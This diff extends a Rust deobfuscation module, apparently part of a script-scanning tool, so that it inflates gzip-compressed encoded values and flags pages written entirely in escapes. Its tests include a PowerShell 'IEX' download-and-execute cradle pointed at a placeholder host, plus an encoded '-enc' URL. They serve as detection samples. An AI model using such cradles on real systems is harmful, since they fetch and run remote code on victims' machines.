@@ -18,8 +18,14 @@ const STRINGS: usize = 500;
 /// Bytes of all the strings of one script.
 const STRING_BYTES: usize = 256 << 10;
 
+/// Values of one script that are tried as compressed data.
+const INFLATIONS: usize = 50;
+
 /// Files found in one script.
 const PAYLOADS: usize = 20;
+
+/// Bytes from which decoded markup counts as a page.
+const PAGE_BYTES: usize = 300;
 
 /// Fewest characters of a string worth telling.
 const SHORTEST: usize = 6;
@@ -56,6 +62,7 @@ pub(crate) struct Strings {
     /// Character codes that were folded.
     pub(crate) codes: usize,
     bytes: usize,
+    inflations: usize,
 }
 
 impl Strings {
@@ -78,8 +85,13 @@ impl Strings {
 
     /// Looks at a folded value, and at what it may be an encoding of.
     fn value(&mut self, text: &str, how: How) {
+        // A whole page that was written in escapes or codes is a page of its own.
+        let page = how > How::Joined && text.len() > PAGE_BYTES && is_markup(text);
+        if page {
+            self.payload(text.as_bytes().to_vec());
+        }
         if how > How::Plain {
-            self.push(text, how);
+            self.push(text, if page { How::Coded } else { how });
         }
         self.encoded(text);
     }
@@ -93,8 +105,11 @@ impl Strings {
             self.push(&text.chars().rev().collect::<String>(), How::Coded);
         }
         if let Some(plain) = percent(text) {
-            // Whole scripts written in escapes are no habit.
-            let whole = text.len() > 300 && plain.len() * 2 < text.len();
+            // Whole scripts and pages written in escapes are no habit.
+            let whole = text.len() > 300 && plain.len() * 3 < text.len() * 2;
+            if whole && is_markup(&plain) {
+                self.payload(plain.clone().into_bytes());
+            }
             self.push(&plain, if whole { How::Coded } else { How::Escaped });
         }
         // What follows `data:…;base64,` is the same as what stands alone.
@@ -118,16 +133,27 @@ impl Strings {
                 self.payload(bytes);
             }
             self.push(&text, How::Coded);
+        } else if let Some(text) = self.inflated(&bytes) {
+            self.push(&text, How::Coded);
         } else if codecs::is_file(&bytes) {
             self.payload(bytes);
         }
     }
+
+    /// Text that was compressed before it was written as text.
+    fn inflated(&mut self, bytes: &[u8]) -> Option<String> {
+        if bytes.len() < 24 || self.inflations >= INFLATIONS {
+            return None;
+        }
+        self.inflations += 1;
+        codecs::inflate(bytes).and_then(|bytes| readable(&bytes))
+    }
 }
 
 /// Decoded text that is a page or a picture of its own.
-fn is_markup(text: &str) -> bool {
+pub(crate) fn is_markup(text: &str) -> bool {
     let start = text.trim_start();
-    ["<!doctype", "<html", "<svg", "<?xml"]
+    ["<!doctype", "<html", "<svg", "<?xml", "<script", "<head", "<body", "<form", "<meta", "<style"]
         .iter()
         .any(|sign| start.get(..sign.len()).is_some_and(|s| s.eq_ignore_ascii_case(sign)))
 }
@@ -242,6 +268,17 @@ mod tests {
         check(ps, "-join([char[]](104,116,116,112,58,47,47,97))", &["http://a"]);
         check(ps, "x -enc aAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQA=", &["http://a.example"]);
         check(Language::Batch, "s^t^a^rt http://a", &["start http://a"]);
+    }
+
+    #[test]
+    fn compressed_scripts_are_inflated() {
+        use std::io::Read;
+        let script = "IEX (New-Object Net.Client).Get('http://a.example/') # and more of it, and more of it";
+        let mut packed = Vec::new();
+        let level = flate2::Compression::best();
+        flate2::read::GzEncoder::new(script.as_bytes(), level).read_to_end(&mut packed).unwrap();
+        let digits: String = packed.iter().map(|b| format!("{b:02x}")).collect();
+        check(Language::PowerShell, &format!("$x = '{digits}'"), &[script]);
     }
 
     #[test]
